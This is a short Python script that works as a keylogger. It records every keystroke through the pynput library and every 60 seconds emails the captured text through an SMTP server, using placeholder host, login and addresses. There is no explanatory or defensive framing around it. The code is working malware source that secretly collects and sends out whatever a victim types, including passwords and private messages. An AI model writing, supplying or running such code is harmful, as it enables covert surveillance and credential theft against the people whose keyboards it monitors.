import smtplib
import threading
from pynput import keyboard
keys = []


def pressed(key):
    keys.append(str(key))


def report():
    server = smtplib.SMTP("smtp.example.invalid", 587)
    server.login("a@example.invalid", "x")
    server.sendmail("a@example.invalid", "a@example.invalid", "".join(keys))
    threading.Timer(60, report).start()


keyboard.Listener(on_press=pressed).start()
report()
